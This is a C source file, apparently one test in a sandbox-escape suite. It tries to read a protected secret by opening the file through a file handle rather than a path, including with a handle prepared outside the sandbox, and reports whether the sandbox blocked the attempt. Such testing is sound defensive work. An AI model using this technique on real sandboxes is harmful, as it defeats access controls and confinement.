/* SPDX-License-Identifier: GPL-3.0-or-later */
/*
 * Attack 10: open the secret by file handle. name_to_handle_at(2) turns a
 * path into a handle; open_by_handle_at(2) opens the inode from the handle
 * and any fd on the same file system, with no path lookup at all, so no
 * path rule could be applied. Natively it needs CAP_DAC_READ_SEARCH.
 *
 * A handle is just bytes, good across processes and reboots: it need not
 * come from inside the sandbox. So when name_to_handle_at fails here, the
 * handle run-esc.sh made outside ("esc-handle --prepare DIR", passed in
 * ESC_PREPARED as TYPE:HEX) is used, and open_by_handle_at is still tried.
 */
#include "esc.h"

#define HANDLE_BYTES 128

union handle {
	struct file_handle fh;
	char buf[sizeof(struct file_handle) + HANDLE_BYTES];
};

/* Parse "TYPE:HEX" into H; false when malformed. */
static bool parse_handle(const char *s, union handle *h)
{
	char *end;
	long type = strtol(s, &end, 10);
	size_t n = 0;

	if (end == s || *end != ':')
		return false;
	for (s = end + 1; s[0] && s[1] && n < HANDLE_BYTES; s += 2) {
		unsigned v;

		if (sscanf(s, "%2x", &v) != 1)
			return false;
		h->fh.f_handle[n++] = (unsigned char)v;
	}
	h->fh.handle_type = (int)type;
	h->fh.handle_bytes = (unsigned)n;
	return n > 0 && !*s;
}

int main(int argc, char **argv)
{
	union handle h;
	struct esc e;
	const char *prepared;
	int mount_id, mfd, fd, err;
	bool prepare = argc == 3 && !strcmp(argv[1], "--prepare");

	if (prepare) {
		argv[1] = argv[0];
		argv++;
		argc--;
	}
	esc_init(&e, argc, argv);
	h.fh.handle_bytes = HANDLE_BYTES;
	if (name_to_handle_at(AT_FDCWD, e.secret, &h.fh, &mount_id, 0) < 0) {
		err = errno;
		prepared = getenv("ESC_PREPARED");
		if (prepare || !prepared || !*prepared) {
			if (err == EOPNOTSUPP || err == ENOSYS)
				esc_exit(&e, ESC_UNSUPPORTED,
					 "name_to_handle_at: %s",
					 esc_errname(err));
			esc_exit(&e, ESC_BLOCKED, "name_to_handle_at: %s",
				 esc_errname(err));
		}
		if (!parse_handle(prepared, &h))
			esc_exit(&e, ESC_SETUP, "bad ESC_PREPARED '%s'",
				 prepared);
		printf("# name_to_handle_at: %s; using the handle made "
		       "outside: %s\n",
		       esc_errname(err), prepared);
	}
	if (prepare) {
		printf("%d:", h.fh.handle_type);
		for (unsigned i = 0; i < h.fh.handle_bytes; i++)
			printf("%02x", h.fh.f_handle[i]);
		putchar('\n');
		return 0;
	}
	/* Any fd on the same file system will do: the allowed directory. */
	mfd = open(e.work, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	if (mfd < 0)
		esc_exit(&e, ESC_SETUP, "open %s: %s", e.work, strerror(errno));
	fd = open_by_handle_at(mfd, &h.fh, O_RDONLY | O_CLOEXEC);
	err = errno;
	if (esc_check_close(fd))
		esc_exit(&e, ESC_ESCAPED, "open_by_handle_at read TOPSECRET");
	if (fd < 0 && err == EPERM && geteuid() != 0)
		esc_exit(
			&e, ESC_UNSUPPORTED,
			"open_by_handle_at: EPERM (needs CAP_DAC_READ_SEARCH)");
	esc_exit(&e, ESC_BLOCKED, "open_by_handle_at: %s",
		 fd < 0 ? esc_errname(err) : "opened, not the secret");
}
